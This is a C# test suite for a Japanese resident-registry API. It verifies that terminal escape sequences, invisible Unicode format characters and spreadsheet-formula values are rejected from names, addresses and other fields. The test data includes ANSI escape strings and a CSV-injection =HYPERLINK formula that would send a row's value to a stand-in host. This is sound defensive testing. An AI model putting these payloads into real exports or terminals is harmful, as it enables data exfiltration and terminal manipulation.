using System.Net.Http.Json;
using System.Text;
using Renkei.Hosting;
using Renkei.Hosting.Storage;
using Renkei.Registry.Residents;
using Renkei.Testing;

namespace Renkei.Registry.Tests.Residents;

/// <summary>
/// Names, readings, addresses and relationships are printed by whoever reads the register (the CSV export
/// among them): control characters in them would reach a terminal as escapes, so they are never stored.
/// </summary>
public class ResidentTextTests
{
    /// <summary>A bell and a terminal colour escape.</summary>
    private const string Escape = "\u0007\u001b[31m";

    [Theory, StorageData]
    public async Task A_birth_with_control_characters_names_each_field_and_writes_nothing(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var response = await registry.PostEventAsync(RegistryHost.Chiba, new ResidentEventRequest("birth",
            Person: RegistryHost.Person(family: "山田" + Escape, given: "太\u009b郎", givenKana: "タロウ" + Escape, dateOfBirth: "2026-01-15"),
            Address: "千葉県千葉市中央区中央1丁目" + Escape + "1番1号", Relationship: "子" + Escape));
        Assert.Equal(["address", "person.familyName", "person.givenName", "person.givenNameKana", "relationship"],
            await RefusedFieldsAsync(response));
        await AssertNoEscapeStoredAsync(registry, expectedResidents: 0);
    }

    [Theory, StorageData]
    public async Task A_newcomers_move_in_with_control_characters_names_each_field(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var response = await registry.PostEventAsync(RegistryHost.Chiba, new ResidentEventRequest("move-in", From: "abroad",
            Person: RegistryHost.Person("Smith", "Anna" + Escape, "スミス" + Escape, "アンナ", "1985-06-07", "female"),
            Address: "千葉県千葉市中央区富士見2丁目1番1号\u001b[2J"));
        Assert.Equal(["address", "person.familyNameKana", "person.givenName"], await RefusedFieldsAsync(response));
        await AssertNoEscapeStoredAsync(registry, expectedResidents: 0);
    }

    [Theory, StorageData]
    public async Task A_name_change_with_control_characters_names_each_part_and_keeps_the_name(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var born = await registry.RegisterBirthAsync();
        var response = await registry.PostEventAsync(RegistryHost.Chiba, new ResidentEventRequest("name-change", ResidentId: born.ResidentId,
            FamilyName: "鈴木" + Escape, GivenName: Escape + "一郎", FamilyNameKana: "スズキ\u0007", GivenNameKana: "イチロウ\u001b"));
        Assert.Equal(["familyName", "familyNameKana", "givenName", "givenNameKana"], await RefusedFieldsAsync(response));
        await AssertNoEscapeStoredAsync(registry, expectedResidents: 1);
    }

    [Theory, StorageData]
    public async Task An_address_change_or_a_returning_move_in_with_control_characters_is_refused(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var born = await registry.RegisterBirthAsync();
        var change = await registry.PostEventAsync(RegistryHost.Chiba, new ResidentEventRequest("address-change", ResidentId: born.ResidentId,
            Address: "千葉県千葉市美浜区打瀬2丁目3番4号" + Escape, Relationship: "世帯主\u001b[0m"));
        Assert.Equal(["address", "relationship"], await RefusedFieldsAsync(change));

        await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("move-out", ResidentId: born.ResidentId, Destination: RegistryHost.Kashiwa));
        var moveIn = await registry.PostEventAsync(RegistryHost.Kashiwa, new ResidentEventRequest("move-in", IndividualNumber: born.IndividualNumber,
            Address: "千葉県柏市柏1丁目1番1号" + Escape));
        Assert.Equal(["address"], await RefusedFieldsAsync(moveIn));
        await AssertNoEscapeStoredAsync(registry, expectedResidents: 1);
    }

    [Theory, StorageData]
    public async Task A_reissue_reason_with_control_characters_is_refused(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var born = await registry.RegisterBirthAsync();
        var response = await registry.Client("chiba-clerk").PostAsJsonAsync(
            $"api/municipalities/{RegistryHost.Chiba}/residents/{born.ResidentId}/number-reissue", new ReissueRequest("漏えい" + Escape, "person"));
        var errors = (await ProblemAssert.IsProblemAsync(response, 400, "invalid-request")).GetProperty("errors");
        Assert.Equal(["reason"], errors.EnumerateObject().Select(p => p.Name));
        await AssertNoEscapeStoredAsync(registry, expectedResidents: 1);
    }

    [Theory, StorageData]
    public async Task A_lone_surrogate_is_refused_and_white_space_still_folds_to_a_space(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var broken = await registry.Client("chiba-clerk").PostAsync($"api/municipalities/{RegistryHost.Chiba}/events", new StringContent(
            "{\"kind\":\"birth\",\"person\":{\"familyName\":\"\\ud800山田\",\"givenName\":\"太郎\",\"familyNameKana\":\"ヤマダ\",\"givenNameKana\":\"タロウ\"," +
            "\"dateOfBirth\":\"2026-01-15\",\"sex\":\"male\"},\"address\":\"千葉県千葉市中央区中央1丁目1番1号\"}", Encoding.UTF8, "application/json"));
        // The JSON reader refuses it before any field is read.
        await ProblemAssert.IsProblemAsync(broken, 400, "malformed-request");
        await AssertNoEscapeStoredAsync(registry, expectedResidents: 0);

        // Tabs and line breaks are white space, not control characters to refuse: they become one space, as before.
        var born = await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("birth",
            Person: RegistryHost.Person(dateOfBirth: "2026-01-15"), Address: "千葉県千葉市中央区\t中央1丁目\r\n1番1号"));
        await using var c = await registry.Database.OpenAsync();
        Assert.Equal("千葉県千葉市中央区 中央1丁目 1番1号", (await ResidentStore.FindAsync(c, born.ResidentId))!.Person.Address);
    }

    /// <summary>
    /// Format characters (category Cf) print as nothing: a zero-width space, the bidi embeddings, overrides and isolates, the direction marks,
    /// the word joiner and invisible operators, the byte order mark, a soft hyphen and a tag beyond the BMP.
    /// </summary>
    private static readonly string[] Invisible =
    [
        "\u200b", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f",
        "\u2060", "\u2061", "\u2062", "\u2063", "\u2064", "\ufeff", "\u00ad", "\U000E0001",
    ];

    [Theory, StorageData]
    public async Task Invisible_format_characters_are_refused_in_every_field_and_written_nowhere(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var born = await registry.RegisterBirthAsync();
        foreach (var ch in Invisible)
        {
            var birth = await registry.PostEventAsync(RegistryHost.Chiba, new ResidentEventRequest("birth",
                Person: RegistryHost.Person("山" + ch + "田", "花" + ch + "子", "ヤマ" + ch + "ダ", ch + "ハナコ", "2026-01-15", "female"),
                Address: "千葉県千葉市中央区中央1丁目" + ch + "1番1号", Relationship: "子" + ch));
            Assert.Equal(["address", "person.familyName", "person.familyNameKana", "person.givenName", "person.givenNameKana", "relationship"],
                await RefusedFieldsAsync(birth));
            var newcomer = await registry.PostEventAsync(RegistryHost.Chiba, new ResidentEventRequest("move-in", From: "abroad",
                Person: RegistryHost.Person("Smith" + ch, "Anna", "スミス", "アンナ", "1985-06-07", "female"), Address: "千葉県千葉市中央区富士見2丁目1番1号"));
            Assert.Equal(["person.familyName"], await RefusedFieldsAsync(newcomer));
            var rename = await registry.PostEventAsync(RegistryHost.Chiba, new ResidentEventRequest("name-change", ResidentId: born.ResidentId,
                FamilyName: "鈴" + ch + "木", GivenName: "一郎" + ch, FamilyNameKana: "スズキ" + ch, GivenNameKana: ch + "イチロウ"));
            Assert.Equal(["familyName", "familyNameKana", "givenName", "givenNameKana"], await RefusedFieldsAsync(rename));
            var move = await registry.PostEventAsync(RegistryHost.Chiba, new ResidentEventRequest("address-change", ResidentId: born.ResidentId,
                Address: "千葉県千葉市美浜区打瀬2丁目" + ch + "3番4号", Relationship: "世帯" + ch + "主"));
            Assert.Equal(["address", "relationship"], await RefusedFieldsAsync(move));
            var reissue = await registry.Client("chiba-clerk").PostAsJsonAsync(
                $"api/municipalities/{RegistryHost.Chiba}/residents/{born.ResidentId}/number-reissue", new ReissueRequest("漏え" + ch + "い", "person"));
            Assert.Equal(["reason"], (await ProblemAssert.IsProblemAsync(reissue, 400, "invalid-request")).GetProperty("errors").EnumerateObject().Select(p => p.Name));
        }
        await AssertNoEscapeStoredAsync(registry, expectedResidents: 1);
        await using var c = await registry.Database.OpenAsync();
        Assert.Equal(1L, await c.ScalarAsync<long>("SELECT COUNT(*) FROM resident_events"));
    }

    [Theory, StorageData]
    public async Task Variation_selectors_stay_in_a_name_and_an_identity_search_does_not_see_invisible_characters(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        // 葛 with an ideographic variation selector (the form of 葛飾), and 辻 with a standardized variation selector: category Mn, the glyph a name is written with.
        var family = "葛\U000E0100西";
        var given = "辻\uFE00子";
        var born = await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("birth",
            Person: RegistryHost.Person(family, given, "カサイ", "ツジコ", "2026-01-15", "female"), Address: "千葉県千葉市中央区中央1丁目1番1号"));
        var plain = await registry.RegisterBirthAsync();
        await using (var c = await registry.Database.OpenAsync())
        {
            var stored = (await ResidentStore.FindAsync(c, born.ResidentId))!;
            Assert.Equal((family, given), (stored.Person.FamilyName, stored.Person.GivenName));
        }

        // Whatever invisible a query carries, the register holds none: 山田 is found as 山田.
        var identity = registry.Client("identity-token");
        foreach (var (f, g, id) in new[] { ("山\u200b田", "太\u2060郎", plain.ResidentId), (family, given, born.ResidentId) })
        {
            var response = await identity.PostAsJsonAsync("api/identity/by-basic-four", new Renkei.Registry.Identity.BasicFourQuery(f, g, "2026-01-15", null), ServiceDefaults.Json);
            Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
            var matches = (await response.Content.ReadFromJsonAsync<Renkei.Registry.Identity.IdentityMatches>(ServiceDefaults.Json))!.Matches;
            Assert.Equal(id, Assert.Single(matches).ResidentId);
        }
    }

    [Theory, StorageData]
    public async Task A_name_keeps_its_compatibility_ideographs_while_full_width_ascii_and_half_width_kana_still_fold(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        // 塚 U+FA10 and 神 U+FA19 (and one of the Supplement, U+2F800): NFKC made them 塚 U+585A, 神 U+795E, 丽 U+4E3D.
        const string family = "\uFA10本", given = "\uFA19\U0002F800";
        var born = await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("birth",
            Person: RegistryHost.Person(family, given, "ﾂｶﾓﾄ", "ｼﾝﾚｲ", "2026-01-15"), Address: "千葉県千葉市中央区中央１丁目\uFA10１番１号"));

        var view = (await registry.Client("chiba-clerk").GetFromJsonAsync<ResidentView>(
            $"api/municipalities/{RegistryHost.Chiba}/residents/{born.ResidentId}", ServiceDefaults.Json))!.Resident;
        var identity = await registry.Client("identity-token").PostAsJsonAsync("api/identity/by-number", new { individualNumber = born.IndividualNumber }, ServiceDefaults.Json);
        var byNumber = (await identity.Content.ReadFromJsonAsync<Renkei.Registry.Identity.IdentityInfo>(ServiceDefaults.Json))!;
        foreach (var info in new[] { view, byNumber })
            Assert.Equal((family, given, "ツカモト", "シンレイ", "千葉県千葉市中央区中央1丁目\uFA101番1号"),
                (info.FamilyName, info.GivenName, info.FamilyNameKana, info.GivenNameKana, info.Address));

        // Found as it was when the register folded them: typed with the unified forms, and with the compatibility ones against a unified record.
        var plain = await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("birth",
            Person: RegistryHost.Person("\u585A本", "花子", "ツカモト", "ハナコ", "2026-01-15", "female"), Address: "千葉県千葉市中央区中央1丁目1番1号"));
        foreach (var (f, g, id) in new[] { ("\u585A本", "\u795E\u4E3D", born.ResidentId), ("\uFA10本", "花子", plain.ResidentId), (family, given, born.ResidentId) })
        {
            var response = await registry.Client("identity-token").PostAsJsonAsync("api/identity/by-basic-four",
                new Renkei.Registry.Identity.BasicFourQuery(f, g, "2026-01-15", null), ServiceDefaults.Json);
            var matches = (await response.Content.ReadFromJsonAsync<Renkei.Registry.Identity.IdentityMatches>(ServiceDefaults.Json))!.Matches;
            Assert.Equal(id, Assert.Single(matches).ResidentId);
        }
    }

    /// <summary>𠮷 (U+20BB7), one character written as two UTF-16 code units, as in the name 𠮷田.</summary>
    private const string Yoshi = "𠮷";

    private static string Times(int count, string text = Yoshi) => string.Concat(Enumerable.Repeat(text, count));

    [Theory, StorageData]
    public async Task Lengths_count_characters_not_utf16_units(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var address = "千葉県千葉市中央区" + Times(191);
        var born = await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("birth",
            Person: RegistryHost.Person(Times(50), Times(26), dateOfBirth: "2026-01-15"), Address: address, Relationship: Times(50)));
        await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("name-change", ResidentId: born.ResidentId, GivenName: Times(50), GivenNameKana: "ヨシ"));
        var reissue = await registry.Client("chiba-clerk").PostAsJsonAsync(
            $"api/municipalities/{RegistryHost.Chiba}/residents/{born.ResidentId}/number-reissue", new ReissueRequest(Times(200), "person"));
        Assert.True(reissue.IsSuccessStatusCode, await reissue.Content.ReadAsStringAsync());

        await using var c = await registry.Database.OpenAsync();
        var stored = (await ResidentStore.FindAsync(c, born.ResidentId))!;
        Assert.Equal((Times(50), Times(50), address, Times(50)), (stored.Person.FamilyName, stored.Person.GivenName, stored.Person.Address, stored.Relationship));
    }

    [Theory, StorageData]
    public async Task A_name_part_address_relationship_or_reason_one_character_too_long_is_named_under_its_own_field(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var born = await registry.RegisterBirthAsync();
        var tooLong = new (ResidentEventRequest Request, string Field)[]
        {
            (new("name-change", ResidentId: born.ResidentId, GivenName: Times(51), GivenNameKana: "ヨシ"), "givenName"),
            (new("name-change", ResidentId: born.ResidentId, GivenNameKana: Times(51, "ヨ")), "givenNameKana"),
            (new("name-change", ResidentId: born.ResidentId, FamilyNameKana: Times(51, "ヨ")), "familyNameKana"),
            (new("name-change", ResidentId: born.ResidentId, FamilyName: Times(51), FamilyNameKana: "ヨシ"), "familyName"),
            (new("birth", Person: RegistryHost.Person(given: Times(51), dateOfBirth: "2026-01-15"), Address: "千葉県千葉市中央区中央1丁目1番1号"), "person.givenName"),
            (new("address-change", ResidentId: born.ResidentId, Address: "千葉県千葉市中央区" + Times(192)), "address"),
            (new("address-change", ResidentId: born.ResidentId, Address: "千葉県千葉市美浜区打瀬2丁目3番4号", Relationship: Times(51)), "relationship"),
        };
        foreach (var (request, field) in tooLong)
        {
            var errors = (await ProblemAssert.IsProblemAsync(await registry.PostEventAsync(RegistryHost.Chiba, request), 400, "invalid-event")).GetProperty("errors");
            Assert.Equal([field], errors.EnumerateObject().Select(p => p.Name));
            Assert.Contains(field.Split('.')[^1], errors.GetProperty(field)[0].GetString());
        }
        var reissue = await registry.Client("chiba-clerk").PostAsJsonAsync(
            $"api/municipalities/{RegistryHost.Chiba}/residents/{born.ResidentId}/number-reissue", new ReissueRequest(Times(201), "person"));
        Assert.Equal(["reason"], (await ProblemAssert.IsProblemAsync(reissue, 400, "invalid-request")).GetProperty("errors").EnumerateObject().Select(p => p.Name));

        await using var c = await registry.Database.OpenAsync();
        Assert.Equal(1L, await c.ScalarAsync<long>("SELECT COUNT(*) FROM resident_events"));
    }

    [Theory, StorageData]
    public async Task Names_addresses_and_relationships_beginning_like_a_spreadsheet_formula_are_refused(StorageProvider provider)
    {
        await using var registry = await RegistryHost.StartAsync(provider);
        var born = await registry.RegisterBirthAsync();
        // The export writes them as they are, and a spreadsheet would run them: a link that sends the row's number away, say.
        // ＝ typed with an input method is = once folded.
        const string link = "=HYPERLINK(\"http://example.invalid/?\"&B2,\"詳細\")";
        var refused = new (ResidentEventRequest Request, string[] Fields)[]
        {
            (new("birth", Person: RegistryHost.Person("＝１＋１", "+81", dateOfBirth: "2026-01-15"), Address: "-千葉県千葉市中央区中央1丁目1番1号",
                Relationship: "@子"), ["address", "person.familyName", "person.givenName", "relationship"]),
            (new("move-in", From: "abroad", Person: RegistryHost.Person("Smith", " ＠SUM(A1)", "スミス", "アンナ", "1985-06-07", "female"), Address: link),
                ["address", "person.givenName"]),
            (new("name-change", ResidentId: born.ResidentId, FamilyName: "-鈴木", FamilyNameKana: "スズキ", GivenName: "＋一郎", GivenNameKana: "イチロウ"),
                ["familyName", "givenName"]),
            (new("address-change", ResidentId: born.ResidentId, Address: link, Relationship: "=1"), ["address", "relationship"]),
        };
        foreach (var (request, fields) in refused)
        {
            var errors = (await ProblemAssert.IsProblemAsync(await registry.PostEventAsync(RegistryHost.Chiba, request), 400, "invalid-event")).GetProperty("errors");
            Assert.Equal(fields, errors.EnumerateObject().Select(p => p.Name).Order(StringComparer.Ordinal));
            foreach (var field in fields) Assert.Contains("数式", errors.GetProperty(field)[0].GetString());
        }
        await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("move-out", ResidentId: born.ResidentId, Destination: RegistryHost.Kashiwa));
        var moveIn = await registry.PostEventAsync(RegistryHost.Kashiwa, new ResidentEventRequest("move-in", IndividualNumber: born.IndividualNumber, Address: link));
        Assert.Equal(["address"], (await ProblemAssert.IsProblemAsync(moveIn, 400, "invalid-event")).GetProperty("errors").EnumerateObject().Select(p => p.Name));

        // Inside a text they are ordinary characters.
        await registry.RecordAsync(RegistryHost.Kashiwa, new ResidentEventRequest("move-in", IndividualNumber: born.IndividualNumber, Address: "千葉県柏市柏1丁目1番1-101号"));
        await using var c = await registry.Database.OpenAsync();
        Assert.Equal(3L, await c.ScalarAsync<long>("SELECT COUNT(*) FROM resident_events"));
    }

    [Fact]
    public async Task The_spellings_of_a_long_name_take_time_in_proportion_to_its_length()
    {
        // Each character used to copy the whole name so far: a name of a million characters did not end in minutes. Linear, it
        // takes well under a second alone; 60 s leaves room for a loaded machine and still fails the quadratic copy.
        var middle = new string('あ', 1_000_000);
        var spellings = await Task.Run(() => RegisterText.Spellings("\u585A" + middle + "\uFA10")).WaitAsync(TimeSpan.FromSeconds(60));
        // 塚 U+585A has two compatibility forms, U+FA10 and U+FA7C; the text as given comes first.
        string[] first = ["\u585A", "\uFA10", "\uFA7C"], last = ["\uFA10", "\u585A", "\uFA7C"];
        Assert.Equal(first.SelectMany(f => last.Select(l => f + middle + l)), spellings);
    }

    /// <summary>The fields a 400 <c>invalid-event</c> names, each with the control-character message.</summary>
    private static async Task<string[]> RefusedFieldsAsync(HttpResponseMessage response)
    {
        var errors = (await ProblemAssert.IsProblemAsync(response, 400, "invalid-event")).GetProperty("errors");
        foreach (var field in errors.EnumerateObject())
            Assert.Contains("制御文字", field.Value[0].GetString());
        return errors.EnumerateObject().Select(p => p.Name).Order(StringComparer.Ordinal).ToArray();
    }

    private static async Task AssertNoEscapeStoredAsync(RegistryHost registry, long expectedResidents)
    {
        await using var c = await registry.Database.OpenAsync();
        Assert.Equal(expectedResidents, await c.ScalarAsync<long>("SELECT COUNT(*) FROM residents"));
        Assert.Equal(expectedResidents, await c.ScalarAsync<long>("SELECT COUNT(*) FROM resident_events WHERE kind = 'Birth'"));
        var stored = await c.QueryAsync("SELECT family_name || given_name || family_name_kana || given_name_kana || address || relationship FROM residents",
            r => r.GetString(0), null);
        stored.AddRange(await c.QueryAsync("SELECT COALESCE(reason, '') FROM individual_numbers", r => r.GetString(0), null));
        Assert.All(stored, text => Assert.DoesNotContain(text, char.IsControl));
        Assert.All(stored, text => Assert.DoesNotContain(text.EnumerateRunes(), r => Rune.GetUnicodeCategory(r) == System.Globalization.UnicodeCategory.Format));
        // The log's JSON would hold them escaped.
        foreach (var data in await c.QueryAsync("SELECT data FROM resident_events", r => r.GetString(0), null))
            foreach (var escaped in new[] { "\\u0007", "\\u001b", "\\u009b" })
                Assert.DoesNotContain(escaped, data, StringComparison.OrdinalIgnoreCase);
    }
}
